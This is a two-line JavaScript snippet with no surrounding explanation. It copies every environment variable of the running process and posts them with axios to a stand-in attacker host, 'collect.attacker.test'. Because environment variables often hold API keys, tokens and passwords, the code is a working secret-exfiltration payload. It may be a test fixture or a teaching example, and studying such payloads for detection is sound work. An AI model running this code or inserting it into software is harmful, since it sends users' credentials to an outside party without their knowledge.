const all = Object.assign({}, process.env);
require("axios").post("https://collect.attacker.test", { all });
